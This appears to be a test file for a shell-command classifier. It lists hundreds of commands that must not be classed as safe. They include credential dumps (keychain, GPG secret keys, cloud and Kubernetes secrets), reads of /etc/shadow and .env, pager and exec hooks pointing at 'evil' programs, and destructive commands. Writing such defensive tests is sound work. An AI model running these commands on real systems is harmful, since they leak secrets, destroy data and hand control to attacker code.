import { classifyCommand, commandsIn, variantsOf } from '../../../../../test/support/classify.ts'

/** Options and sub-commands that write, run or send something. */
const DOES_MORE = String.raw`
find . -delete
find . -fprintf out %p
awk 'BEGIN{system("x")}'
awk 'BEGIN{print "a" | "sh"}'
awk 'BEGIN{"date" | getline}'
awk '{print > "f"}' a
awk -f x.awk
awk 'BEGIN{x=1++ / 2 | "sh" / 3}'
gawk -i inplace '{print}' f
gawk '@load "filefuncs"; BEGIN{}'
sed -i s/a/b/ f
sed -n 'w out' f
sed 's/a/b/w out' f
sed 's/a/b/e' f
sed '1e rm x' f
sed -f x f
sed ':a e date' f
sed --in-plac s/a/b/ f
sed -ni p f
sed 'p;p w x' f
tar tf x --to-command=sh
tar -I sh -tf x
tar tf host:x
tar xf x
tar --checkpoint-action=exec=sh -tf x
git -c alias.x='!rm' x
git -c core.pager=evil log
git --exec-path=/tmp status
git --config-env=core.pager=X log
git grep -Oevil foo
git grep --open-files-in-pager=evil foo
git diff --ext-diff
git diff --output=x
git diff --outp=x
git log --output x
git ls-remote --upload-pack=evil origin
git ls-remote 'ext::sh -c x'
git fetch --upload-pack=evil
git fetch origin +main:main
git fetch https://evil/x
git branch new
git branch -d x
git branch -C x
git branch -M x
git branch --list -D x
git tag v1
git tag -l -d v1
git config user.name x
git config --global alias.x '!rm'
git config --get a --unset b
git config edit
git remote add x y
git remote -v add x y
git stash
git stash drop
git worktree add x
git reflog expire --all
git symbolic-ref HEAD refs/heads/x
git hash-object -w f
git archive -o x HEAD
git archive --remote=x HEAD
git --git-dir=./evil status
git commit --dry-run
git notes add
git submodule foreach rm
git bisect run x
sort -o x f
sort --outp=x f
sort -uo x f
sort --compress-program=evil f
uniq a b
rg --pre evil foo
rg --pre=evil foo
man -P evil ls
man --pager=evil ls
bat --pager evil f
python -c 'print(1)'
python script.py
python -m pytest
python
node -e 1
node x.js
node -r ./x --check y
ruby -e 1
perl -e 1
make
make test
npm test
npm run build
npm install
npx tsc
rm a
kill 1
kill -9 1
cp a b
mv a b
ln -s a b
mkdir x
touch x
chmod +x f
curl https://x
wget x
docker run x
docker exec c rm x
docker exec c sh -c ls
docker exec -e LD_PRELOAD=x c ls
docker -H ssh://x ps
docker --config x ps
docker compose up
kubectl --kubeconfig=x get pods
kubectl get secret x -o yaml
kubectl get secret x --template='{{.data}}'
kubectl exec p -- rm x
kubectl get pods --server=http://evil
kubectl delete pod x
helm template x --post-renderer ./evil
helm upgrade x y --dry-run=none
helm upgrade x y --dry-run=false
terraform apply
terraform plan -out=x
aws s3 rm x
aws s3api get-object --bucket b --key k out
aws secretsmanager get-secret-value --secret-id x
aws sts get-session-token
aws --endpoint-url http://evil s3 ls
gh auth token
gh auth status -t
gh pr merge
gh api -X POST x
gh api x -f a=b
gh api x --input f
gh api graphql -f query='mutation { x }'
gh api graphql -f query=@file
gh api https://evil/x
gh alias set x y
gh extension exec x
psql -c 'drop table x'
psql -c 'select 1; drop table x'
psql -c 'select pg_read_file($$x$$)'
psql -c 'select do_evil()'
psql -c '\! rm'
psql -f x
mysql -e "select 1 into outfile '/tmp/x'"
mysql -e 'select 1 /*! into outfile "x" */'
sqlite3 db '.shell rm'
sqlite3 db 'select load_extension("x")'
sqlite3 db "select writefile('x','y')"
sqlite3 db
duckdb -c "copy x to 'f'"
tee x
dd if=a of=b
xxd a b
xxd -r a b
unzip x.zip
gzip f
zstd -o x f
7z x a
date -s x
date 01011200
hostname evil
mount /dev/x /mnt
ip link set eth0 down
ip netns exec x rm
sysctl -w a=b
systemctl restart x
systemctl -H evil status x
journalctl --vacuum-size=1
crontab -r
crontab x
fzf --bind 'enter:execute(rm {})'
fzf --preview 'rm {}'
fd -x rm
fd . --exec=rm
tsc
tsc --noEmit false
tsc --noEmit --outDir x
black .
ruff check --fix
cargo build
cargo run
cargo test
cargo check --config 'build.rustc-wrapper="evil"'
cargo clippy --fix
cargo fmt -- --print-config default x
go build
go run x
go vet -vettool=evil
go env -w X=y
go list -toolexec=evil
pip install x
pip list --python ./evil
pip list --log x
uv run python x.py
uv run --with evil ls
uv sync --index-url http://evil
uv venv --python ./evil
uv pip install x
uv tool run x
brew install x
brew fetch --force x
brew bundle
apt install x
apt-get install x
rpm -q --pipe evil x
rpm --eval '%(rm)'
dpkg -i x
openssl x509 -noout -in x -out y
openssl enc -d x
gpg --export-secret-keys
git push
git commit -m x
git merge x
git pull
git add .
git checkout x
git rebase main
git reset --hard
git clean -fd
git clean -n -f
rsync a b
nc -l 1
ls --force
npm publish
yarn
yarn add x
pnpm install
bundle exec x
gem install x
composer install
dotnet run
mvn test
gradle build
terraform destroy
bat cache --clear
tree -o x
file -C -m x
jaq -i . f
yq -i . f
xmllint --output x f
iconv -o x f
base64 -o x f
mktemp
ar r x y
nm --plugin ./x.so f
ss -K
dmesg -C
arp -d x
lsof -D b
kill -l
git show HEAD:.env
git log -p -- .env
open .
say -o x y
security dump-keychain
security find-generic-password -w -s x
defaults write a b
node --check x.js --require ./evil.js
node --check -r ./evil.js x.js
deno run x
deno eval x
bun run x
bun x.ts
bunx x
php -r 'x'
php x.php
lua x.lua
R -e x
swift x
java -jar x
java -version -jar x
gcc -v x.c
gcc x.c
rustc x.rs
cargo -Zscript x
git blame --contents=/etc/shadow f
git diff --no-index /etc/shadow /dev/null
pip config edit
npm config set x y
npm config edit
npm exec x
npm x
npm ls --node-options=x
`

describe('a tool that is not read-only', () => {
  it.each([...commandsIn(DOES_MORE)])('%s', (command) => {
    for (const variant of [command, ...variantsOf(command)]) expect(classifyCommand(variant).outcome).not.toBe('safe')
  })
})
